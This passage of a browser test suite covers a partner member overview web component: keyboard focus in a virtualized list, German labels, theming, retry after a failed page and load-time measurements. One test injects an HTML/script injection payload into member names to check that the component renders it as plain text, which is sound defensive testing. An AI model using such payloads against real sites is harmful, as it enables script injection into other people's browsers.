    const client = await clientFor({ orgId: org.orgId });
    const { el, ready } = await mount<PartnerMemberOverview>(TAG, { 'org-id': org.orgId }, client);
    const spacer = document.createElement('div');
    spacer.className = 'spacer';
    spacer.textContent = 'Above the widget';
    spacer.setAttribute('role', 'note');
    spacer.append(Object.assign(document.createElement('div'), { className: 'spacer__block' }));
    const style = document.createElement('style');
    style.textContent = '.spacer__block { block-size: 3000px; }';
    document.head.append(style);
    el.before(spacer);
    try {
      window.scrollTo(0, 0);
      await ready;
      await el.updateComplete;
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      expect(rows(el), 'no rows rendered off screen').to.have.length(0);
      const body = shadow(el).querySelector<HTMLElement>('.grid__body')!;
      expect(body.tabIndex, 'the list body takes the Tab stop').to.equal(0);
      await expect(el).to.be.accessible();
      body.focus();
      await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '0', 'the first row takes focus');
      expect(body.tabIndex, 'the row has the Tab stop now').to.equal(-1);
    } finally {
      spacer.remove();
      style.remove();
    }
  });

  it('shows hostile member names as text', async () => {
    const org = await midOrg();
    const faults = new FetchFaults();
    const hostile = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
    faults.rewriteJson(/\/(members|summary)$/, (body) => {
      const data = body as { items?: Member[]; closeToNextTier?: { members: Member[] } };
      for (const member of data.items ?? data.closeToNextTier?.members ?? []) member.name = `${hostile} ${member.name}`;
      return data;
    });
    const { el } = await mountOrg(org, faults.fetch);
    expect(rowNames(el)[0]).to.contain(hostile);
    expect(shadow(el).querySelector('img, script')).to.not.exist;
    expect((window as { __pwned?: number }).__pwned).to.be.undefined;
    await expect(el).to.be.accessible();
  });

  it('reads in German: summary, filters, columns and count', async () => {
    document.documentElement.lang = 'de';
    const org = await midOrg();
    const { el } = await mountOrg(org);
    const de = new Intl.NumberFormat('de');
    await waitForText(el, /Mitglieder je Stufe/);
    const text = textOf(el);
    for (const phrase of ['Statusschutz endet bald', 'Kurz vor der nächsten Stufe', 'Deal-Pipeline', 'Nach Namen suchen', 'Alle Stufen', 'Alle Regionen', 'Alle Länder', 'CSV exportieren', 'Fortschritt zur nächsten Stufe', 'Geschützt bis']) {
      expect(text, phrase).to.contain(phrase);
    }
    expect(countText(el)).to.equal(`${de.format(org.memberCount)} Mitglieder`);
    expect(text).to.not.contain('Members per tier');
    await expect(el).to.be.accessible();

    type(el, 'zzqx kein solcher Reseller');
    await waitForText(el, /Keine Mitglieder entsprechen diesen Filtern\./);
    expect(shadow(el).querySelector<HTMLButtonElement>('button.secondary')!.textContent!.trim()).to.equal('Filter zurücksetzen');
    await expect(el).to.be.accessible();
  });

  it('takes its colours from --partner-* custom properties', async () => {
    const org = await midOrg();
    const style = document.createElement('style');
    style.textContent = `.themed { --partner-member-overview-bar-color: rgb(1, 2, 3); --partner-color-surface: rgb(250, 240, 230); }`;
    document.head.append(style);
    try {
      const client = await clientFor({ orgId: org.orgId });
      const { el, ready } = await mount<PartnerMemberOverview>(TAG, { 'org-id': org.orgId, class: 'themed' }, client);
      await ready;
      await el.updateComplete;
      expect(getComputedStyle(shadow(el).querySelector('.tier-bar__fill')!).fill).to.equal('rgb(1, 2, 3)');
      expect(getComputedStyle(part(el, 'base')!).backgroundColor).to.equal('rgb(250, 240, 230)');
    } finally {
      style.remove();
    }
  });

  it('shows a failed next page with Retry, and the list goes on after it', async () => {
    const org = await bigOrg();
    const faults = new FetchFaults();
    const { el } = await mountOrg(org, faults.fetch);
    const errors: Event[] = [];
    el.addEventListener('partner-error', (event) => errors.push(event));
    faults.failWith(503);
    await scrollListToEnd(el, () => /The partner service had a problem/.test(textOf(el)), 'the next page to fail');
    expect(errors).to.have.length(1);
    expect(rows(el).length).to.be.greaterThan(0);
    await expect(el).to.be.accessible();
    faults.pass();
    shadow(el).querySelector<HTMLButtonElement>('.more [part~="retry-button"]')!.click();
    await waitUntil(() => !shadow(el).querySelector('.more'), 'next page loaded');
    await scrollListToEnd(el, () => rows(el).some((row) => Number(row.dataset.index) >= 100), 'rows of the second page');
  });
});

describe('<partner-member-overview> measurements (reported, not asserted)', () => {
  afterEach(() => fixtureCleanup());

  it('measures data arrival to first rows painted for the 5,000+ member organization', async function () {
    this.timeout(60_000);
    const org = await bigOrg();
    let arrived: number;
    // When the last response body (organization, summary, program, first page) has been received: what follows is
    // parsing, validation and rendering.
    const timed: typeof fetch = async (input, init) => {
      const response = await fetch(input, init);
      const text = await response.text();
      arrived = performance.now();
      return new Response(text, { status: response.status, headers: response.headers });
    };
    // A host page that shows the list first (it hides the summary cards through their part): the list is in the
    // window's viewport when the data arrives, so its rows paint at once.
    const style = document.createElement('style');
    style.textContent = `${TAG}::part(summary) { display: none; }`;
    document.head.append(style);
    const samples: number[] = [];
    for (let run = 0; run < 5; run++) {
      arrived = 0;
      const client = await clientFor({ orgId: org.orgId }, { fetch: timed });
      const { el } = await mount<PartnerMemberOverview>(TAG, { 'org-id': org.orgId }, client);
      await waitUntil(() => rows(el).length > 0, 'rows', { interval: 1, timeout: 8000 });
      // Two frames: the rows have been laid out and painted.
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      samples.push(performance.now() - arrived);
      console.log(
        `[measure] ${TAG}: ${org.memberCount} members, data arrival -> first rows painted ${(performance.now() - arrived).toFixed(1)} ms, rows in DOM ${rows(el).length}`,
      );
      fixtureCleanup();
    }
    // Rows kept in the DOM while the user scrolls deep into the list.
    const client = await clientFor({ orgId: org.orgId });
    const { el } = await mount<PartnerMemberOverview>(TAG, { 'org-id': org.orgId }, client);
    await waitUntil(() => rows(el).length > 0, 'rows', { timeout: 8000 });
    let most = 0;
    await scrollListToEnd(
      el,
      () => {
        most = Math.max(most, rows(el).length);
        return rows(el).some((row) => Number(row.dataset.index) >= 1000);
      },
      'row 1,000',
    );
    console.log(`[measure] after scrolling past row 1,000: ${rows(el).length} rows in DOM (most seen ${most}), ${el.shadowRoot!.querySelectorAll('*').length} elements in the shadow root`);
    style.remove();
    samples.sort((a, b) => a - b);
    console.log(`[measure] median ${samples[2]!.toFixed(1)} ms (min ${samples[0]!.toFixed(1)}, max ${samples[4]!.toFixed(1)})`);
    expect(samples).to.have.length(5);
  });
});
